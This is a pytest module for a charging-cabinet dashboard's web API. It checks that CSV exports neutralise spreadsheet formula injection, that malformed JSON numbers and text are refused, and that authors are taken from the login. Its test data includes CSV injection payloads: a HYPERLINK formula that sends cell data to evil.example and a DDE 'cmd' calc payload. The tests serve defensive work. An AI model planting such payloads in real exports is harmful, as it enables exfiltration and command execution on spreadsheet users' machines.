"""The API contract under attack (issue 15): CSV exports a spreadsheet will not run, JSON bodies
with numbers JSON cannot carry, authors taken from the login, and every route's published
response model. All against the real web app (``create_app`` + ``install_dashboard``)."""

from __future__ import annotations

import asyncio
import csv
import io
import json
import re
from datetime import UTC, datetime, timedelta
from typing import Any, Final

import httpx
import pytest
from fastapi import FastAPI

from cabinet_agent.common.protocol import (
    AgentStatus,
    BirthMessage,
    ChargeSession,
    DoorState,
    EventKind,
    EventMessage,
    MainsState,
    SessionEnd,
    SlotInfo,
    SlotState,
    StatusMessage,
    TelemetryMessage,
)
from server.alerts import Alert
from server.alerts.state import StoredState
from server.api import ApiSources, create_app
from server.auth import COOKIE, Auth, Role, User, UserStore
from server.battery import BatteryAgeing
from server.ingest import MqttStats
from server.org import Organisation
from server.pipeline import IngestStats
from server.sessions import SessionRecorder
from server.store import open_store
from server.tsdb.base import SinkHealth, SinkStats
from server.web import Dashboard, install_dashboard
from tests.support.inventory import tagged_fleet

NOW: Final = datetime(2026, 11, 2, 8, 0, tzinfo=UTC)
SITE: Final = "gs-nord"
# What a cabinet's asset tags, the organisation file and users' comments could hold.
HOSTILE: Final = {
    "formula": '=HYPERLINK("http://evil.example/?"&A1;"Akku")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3",
    "at": "@SUM(A1:A9)",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
    "split": "Raum 12;=1+1;x",  # German Excel splits at ";": a new cell would start with "="
    "newline": "Zeile\n@x",
}
TRIGGERS: Final = ("=", "+", "-", "@", "\t", "\r")
# German (default): ";" between cells after a byte order mark; English: ",".
FULLY_QUOTED: Final = {
    sep: re.compile(bom + rf'(?:"(?:[^"]|"")*"(?:{sep}"(?:[^"]|"")*")*\r\n)*')
    for sep, bom in ((";", "\ufeff"), (",", ""))}
ORG: Final = Organisation.model_validate({
    "district": "Kreis", "district_team": "it", "teams": [{"id": "it", "name": "IT"}],
    "municipalities": [{"id": "nord", "name": HOSTILE["at"]}],
    "schools": [{"site": SITE, "name": HOSTILE["formula"], "municipality": "nord"}],
    "cabinets": [{"school": SITE, "id": "k1"}],
})


def _env(cabinet: str, seq: int) -> dict[str, Any]:
    return {"v": 1, "site": SITE, "cabinet": cabinet, "boot_id": "b" * 32, "seq": seq,
            "ts": NOW, "clock_synced": True}


def _users() -> UserStore:
    store = UserStore(open_store(None))
    for user in (User("admin", Role.ADMIN), User("tech-nord", Role.TECHNICIAN, "nord"),
                 User("viewer", Role.VIEWER, school=SITE)):
        store.add_user(user, "correct horse battery", NOW)
    return store


class World:
    """The dashboard app over in-process state, with an admin, a technician and a viewer."""

    def __init__(self, store: UserStore) -> None:
        tags = list(HOSTILE.values())  # from an MDM's export: what the inventory holds
        fleet = tagged_fleet({(SITE, "k1"): dict(enumerate(tags, 1))})
        fleet.apply(StatusMessage(**_env("k1", 0), status=AgentStatus.ONLINE), NOW)
        fleet.apply(BirthMessage(**_env("k1", 1), agent_version="0.1", config_hash="00000000",
                                 cabinet_model="m", slot_count=len(tags), poll_interval_s=1.0,
                                 telemetry_interval_s=10.0,
                                 slots=[SlotInfo(slot=n) for n in range(1, len(tags) + 1)]), NOW)
        # A meter that reads a little negative: a number, and it stays one in the export.
        fleet.apply(TelemetryMessage(**_env("k1", 2), power_w=[-3.5] + [None] * (len(tags) - 1),
                                     states=[SlotState.CHARGING] + [SlotState.UNKNOWN] * (len(tags) - 1),
                                     temperature_c=20.0, door=DoorState.CLOSED,
                                     mains=MainsState.ON, devices=[]), NOW)
        self.sessions = SessionRecorder(None, BatteryAgeing())
        self.sessions.record(EventMessage(
            **_env("k1", 3), event=EventKind.SESSION_ENDED, slot=1, session=ChargeSession(
                slot=1, asset_tag=HOSTILE["plus"], started_at=NOW - timedelta(hours=2),
                ended_at=NOW - timedelta(hours=1), duration_s=3600.0, energy_wh=21.5,
                peak_w=18.0, end=SessionEnd.FULL)))
        self.state = StoredState.in_memory()
        alert = Alert({"alertname": "door_open", "site": SITE, "cabinet": "k1",
                       "slot": HOSTILE["minus"]}, {}, NOW - timedelta(hours=1),
                      NOW - timedelta(minutes=30))
        self.state.put_active(alert)
        self.fingerprint = alert.fingerprint
        self.store = store
        self.tokens = {u.name: store.create_token(u.name, "t", NOW) for u in store.users()}
        sources = ApiSources(
            fleet=fleet, alerts=self.state, clock=lambda: NOW, state=self.state, org=ORG,
            ingest_stats=lambda **_: IngestStats(1, 1, {}),
            mqtt_stats=lambda: MqttStats(True, 1, 0, None),
            tsdb_stats=lambda: SinkStats(SinkHealth.OK), auth=Auth(store, lambda: NOW))
        self.app: FastAPI = create_app(sources)
        install_dashboard(self.app, Dashboard(sources, self.sessions))

    def request(self, method: str, path: str, user: str = "admin", **kwargs: Any) -> httpx.Response:
        headers = {"Authorization": f"Bearer {self.tokens[user]}", **kwargs.pop("headers", {})}

        async def call() -> httpx.Response:
            transport = httpx.ASGITransport(app=self.app, raise_app_exceptions=False)
            async with httpx.AsyncClient(transport=transport, base_url="http://test",
                                         headers=headers) as client:
                return await client.request(method, path, **kwargs)

        return asyncio.run(call())


@pytest.fixture(scope="module")
def users() -> UserStore:
    """Hashing passwords takes a while: one store for the module's worlds."""
    return _users()


@pytest.fixture
def world(users: UserStore) -> World:
    return World(users)


# ------------------------------------------------------------------ CSV

def _cell_starts(cell: str) -> list[str]:
    """What a spreadsheet may take for the start of a cell: the cell's start, and anything after
    a separator or line break (a program that splits at ";" or at lines)."""
    starts = [cell]
    starts += [cell[n + 1:] for n, char in enumerate(cell) if char in ",;\t\r\n"]
    return [s for s in starts if s]


def _number(text: str) -> bool:
    """A number (a negative one too, with a German decimal comma too) is no formula."""
    if re.fullmatch(r"-?\d+,\d+", text):
        text = text.replace(",", ".")
    try:
        float(text)
    except ValueError:
        return False
    return True


def _separator(response: httpx.Response) -> str:
    return ";" if response.text.startswith("\ufeff") else ","


def _rows(response: httpx.Response) -> list[list[str]]:
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("text/csv")
    text = response.text.removeprefix("\ufeff")
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=_separator(response)))


@pytest.mark.parametrize("query", ["", "?lang=en"])
@pytest.mark.parametrize(("export", "hostile"), [
    ("inventory.csv", ["'" + HOSTILE["formula"], "'" + HOSTILE["at"], "'" + HOSTILE["plus"]]),
    ("sessions.csv", ["'" + HOSTILE["plus"]]),
    ("alerts.csv", ["'" + HOSTILE["minus"], "'=1+1 (Kommentar)"]),
])
def test_no_exported_cell_starts_a_formula(world: World, export: str,
                                          hostile: list[str], query: str) -> None:
    world.request("POST", f"/api/alerts/{world.fingerprint}/ack",
                  json={"comment": "=1+1 (Kommentar)"})
    response = world.request("GET", f"/api/export/{export}{query}")
    rows = _rows(response)
    assert _separator(response) == ("," if query else ";")
    for row in rows:
        for cell in row:
            for start in _cell_starts(cell):
                assert not start.startswith(TRIGGERS) or _number(start), (export, cell)
    # every cell quoted: a separator or quote inside a value cannot start a cell of its own
    assert FULLY_QUOTED[_separator(response)].fullmatch(response.text), response.text[:500]
    # the hostile texts are all there, readable, behind a single quote
    text = "\n".join(",".join(row) for row in rows)
    for value in hostile:
        if value.startswith("'"):
            assert value in text, value


@pytest.mark.parametrize(("query", "minus", "numbers"), [
    ("", "-3,5", ["3600", "21,5", "18"]),  # German Excel: decimal comma
    ("?lang=en", "-3.5", ["3600", "21.5", "18"]),
])
def test_texts_are_neutralised_and_numbers_stay_numbers(world: World, query: str, minus: str,
                                                        numbers: list[str]) -> None:
    inventory = {row[6]: row for row in _rows(world.request("GET",
                                                            f"/api/export/inventory.csv{query}"))}
    assert inventory["'" + HOSTILE["formula"]][2] == "'" + HOSTILE["formula"]  # the school name
    assert inventory["'" + HOSTILE["formula"]][8] == minus  # a number our code made: no prefix
    assert "'-2+3" in inventory  # text that looks like arithmetic is text
    assert "Raum 12;'=1+1;x" in inventory  # inside a cell, after German Excel's separator
    # the inventory keeps no tab or line break in a tag: what is left is neutralised all the same
    assert "'=1+1" in inventory and "Zeile @x" in inventory
    session = _rows(world.request("GET", f"/api/export/sessions.csv{query}"))[1]
    assert session[5] == "'" + HOSTILE["plus"]
    assert session[8:11] == numbers  # duration, energy, peak: numbers


# ------------------------------------------------- numbers JSON cannot carry

def _json_body_routes(app: FastAPI) -> list[str]:
    return [path for path, operations in app.openapi()["paths"].items()
            for operation in operations.values()
            if "application/json" in operation.get("requestBody", {}).get("content", {})]


@pytest.mark.parametrize("literal", ["1e999", "-1e999", "NaN", "Infinity", "-Infinity"])
def test_every_json_body_route_answers_422_to_non_finite_numbers(world: World,
                                                                 literal: str) -> None:
    routes = _json_body_routes(world.app)
    # ack, silences, technician, inventory/place: a new one is covered here by itself
    assert len(routes) == 4
    for path in routes:
        concrete = path.replace("{fingerprint}", world.fingerprint).replace(
            "{site}", SITE).replace("{cabinet}", "k1")
        response = world.request("POST", concrete, content=f'{{"comment": {literal}}}',
                                 headers={"Content-Type": "application/json"})
        assert response.status_code == 422, (path, response.text)
        (error,) = response.json()["detail"]
        assert error["loc"] == ["body", "comment"] and error["input"] == literal
        assert "finite number" in error["msg"]


UNTIL: Final = (NOW + timedelta(hours=2)).isoformat()


@pytest.mark.parametrize(("path", "body", "loc"), [
    ("/api/silences", f'{{"matchers": {{"site": "{SITE}"}}, "ends_at": 1e999}}', ["ends_at"]),
    ("/api/silences", f'{{"matchers": {{"site": "{SITE}"}}, "ends_at": "{UNTIL}", "weekly": '
                      '{"days": [0, NaN], "start": "08:00", "end": "09:00"}}', ["weekly", "days", 1]),
    ("/api/silences", f'{{"matchers": {{"site": "{SITE}"}}, "ends_at": "{UNTIL}", "weekly": '
                      '{"days": [0], "start": -Infinity, "end": "09:00"}}', ["weekly", "start"]),
    ("/api/cabinets/gs-nord/k1/technician", '{"until": Infinity, "comment": "x"}', ["until"]),
    ("/api/alerts/{fp}/ack", '{"by": 1E400}', ["by"]),
])
def test_a_non_finite_number_is_named_by_its_field(world: World, path: str, body: str,
                                                   loc: list[Any]) -> None:
    response = world.request("POST", path.replace("{fp}", world.fingerprint), content=body,
                             headers={"Content-Type": "application/json"})
    assert response.status_code == 422, response.text
    assert [e["loc"] for e in response.json()["detail"]] == [["body", *loc]]
    assert world.state.silences() == [] and world.state.acks() == []  # nothing was stored


@pytest.mark.parametrize(("body", "loc"), [
    ('{"comment": "Akku \\ud800"}', ["comment"]),
    ('{"by": "\\udfff x"}', ["by"]),
])
def test_text_with_a_lone_surrogate_is_named_by_its_field(world: World, body: str,
                                                         loc: list[str]) -> None:
    """Python decodes it, but no answer with it can be encoded as UTF-8 (it was a 500)."""
    response = world.request("POST", f"/api/alerts/{world.fingerprint}/ack", content=body,
                             headers={"Content-Type": "application/json"})
    assert response.status_code == 422, response.text
    assert [e["loc"] for e in response.json()["detail"]] == [["body", *loc]]
    assert world.state.acks() == []


def test_undecodable_bodies_and_rule_violations_are_422_in_the_documented_shape(
        world: World) -> None:
    huge = world.request("POST", "/api/silences", content='{"ends_at": ' + "9" * 5000 + "}",
                         headers={"Content-Type": "application/json"})
    assert huge.status_code == 422 and huge.json()["detail"][0]["type"] == "json_invalid"
    earlier = world.request("POST", "/api/silences", json={
        "matchers": {"site": SITE}, "ends_at": (NOW - timedelta(hours=1)).isoformat()})
    assert earlier.status_code == 422
    assert [e["loc"] for e in earlier.json()["detail"]] == [["body", "ends_at"]]
    too_long = world.request("POST", "/api/cabinets/gs-nord/k1/technician",
                             json={"until": (NOW + timedelta(days=8)).isoformat()})
    assert too_long.status_code == 422
    assert [e["loc"] for e in too_long.json()["detail"]] == [["body", "until"]]


@pytest.mark.parametrize("slot", ["0", "257", "99999999999999999999"])
def test_a_slot_number_out_of_range_is_422_not_a_database_error(world: World, slot: str) -> None:
    """A slot number past 64 bits reached SQLite (the stored sessions) and was a 500."""
    response = world.request("GET", f"/api/cabinets/{SITE}/k1/slots/{slot}/history")
    assert response.status_code == 422
    assert response.json()["detail"][0]["loc"] == ["path", "slot"]


def test_a_json_body_too_large_is_refused_unread_even_without_login(world: World) -> None:
    body = json.dumps({"matchers": {"site": SITE}, "comment": "x" * 70_000})

    async def call() -> httpx.Response:
        async with httpx.AsyncClient(transport=httpx.ASGITransport(app=world.app),
                                     base_url="http://test") as client:
            return await client.post("/api/silences", content=body,
                                     headers={"Content-Type": "application/json"})

    response = asyncio.run(call())
    assert response.status_code == 413 and "at most 65536 bytes" in response.json()["detail"]
    assert "413" in world.app.openapi()["paths"]["/api/silences"]["post"]["responses"]


# ------------------------------------------------------------- authors

def test_the_author_is_the_logged_in_user_not_the_body(world: World) -> None:
    claimed = "Rektorin Schulz"
    ack = world.request("POST", f"/api/alerts/{world.fingerprint}/ack", user="tech-nord",
                        json={"by": claimed, "comment": "Netzteil bestellt"})
    assert ack.status_code == 200 and ack.json()["ack"]["by"] == "tech-nord"
    silence = world.request("POST", "/api/silences", user="tech-nord", json={
        "matchers": {"site": SITE}, "ends_at": UNTIL, "created_by": claimed})
    assert silence.status_code == 201 and silence.json()["created_by"] == "tech-nord"
    visit = world.request("POST", f"/api/cabinets/{SITE}/k1/technician", user="tech-nord",
                          json={"by": claimed, "until": UNTIL})
    assert visit.status_code == 201 and visit.json()["created_by"] == "tech-nord"
    # and so it is stored and listed
    assert [a.by for a in world.state.acks()] == ["tech-nord"]
    assert {s.created_by for s in world.state.silences()} == {"tech-nord"}
    (alert,) = world.request("GET", "/api/alerts").json()["alerts"]
    assert alert["ack"]["by"] == "tech-nord"
    assert claimed not in world.request("GET", "/api/export/alerts.csv").text


def test_a_session_user_is_the_author_too(world: World) -> None:
    session, csrf = world.store.create_session("admin", NOW, timedelta(hours=1))

    async def call() -> httpx.Response:
        transport = httpx.ASGITransport(app=world.app)
        async with httpx.AsyncClient(transport=transport, base_url="http://test",
                                     cookies={COOKIE: session}) as client:
            return await client.post(f"/api/alerts/{world.fingerprint}/ack",
                                     json={"by": "tech-nord"}, headers={"X-CSRF-Token": csrf})

    response = asyncio.run(call())
    assert response.status_code == 200 and response.json()["ack"]["by"] == "admin"


def test_the_schema_says_the_body_author_is_ignored(world: World) -> None:
    spec = world.app.openapi()
    for path, field in (("/api/alerts/{fingerprint}/ack", "by"), ("/api/silences", "created_by"),
                        ("/api/cabinets/{site}/{cabinet}/technician", "by")):
        operation = spec["paths"][path]["post"]
        assert "logged-in user" in operation["description"]
        ref = operation["requestBody"]["content"]["application/json"]["schema"]["$ref"]
        body = spec["components"]["schemas"][ref.rsplit("/", 1)[1]]
        assert field not in body.get("required", []) and body["properties"][field]["deprecated"]


# ------------------------------------------------------- response models

def test_every_api_route_publishes_its_response_model(world: World) -> None:
    spec = world.app.openapi()
    schemas = spec["components"]["schemas"]
    for path, operations in spec["paths"].items():
        if path == "/metrics":  # Prometheus text, documented as such
            continue
        for method, operation in operations.items():
            responses = operation["responses"]
            ok = next(code for code in ("200", "201") if code in responses)
            content = responses[ok]["content"]
            if path.startswith("/api/export/"):
                media = ("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
                         if path.endswith(".xlsx") else "text/csv")
                assert list(content) == [media], path
            else:
                ref = content["application/json"]["schema"].get("$ref", "")
                model = schemas[ref.rsplit("/", 1)[-1]] if ref else {}
                assert model.get("additionalProperties") is False, (method, path)
            if path != "/healthz":
                assert "401" in responses, (method, path)


def test_a_view_field_missing_from_its_model_fails_loudly(world: World,
                                                          monkeypatch: pytest.MonkeyPatch) -> None:
    import server.api

    real = server.api.health_json
    monkeypatch.setattr(server.api, "health_json",
                        lambda *a: {**real(*a), "undocumented": 1})
    assert world.request("GET", "/healthz").status_code == 500
    monkeypatch.undo()
    assert json.loads(world.request("GET", "/healthz").text) == {"mqtt_connected": True,
                                                                 "tsdb": "ok"}


def test_the_fleet_answer_matches_its_published_model(world: World) -> None:
    """/api/fleet skips FastAPI's runtime check (it is the one unbounded answer), so the check is
    here: the strict model (no unknown field, every declared one typed) accepts the real answer."""
    from server.api_models import FleetOut

    response = world.request("GET", "/api/fleet")
    assert response.status_code == 200
    body = response.json()
    assert body["cabinets"], "the world has cabinets to check"
    FleetOut.model_validate(body)
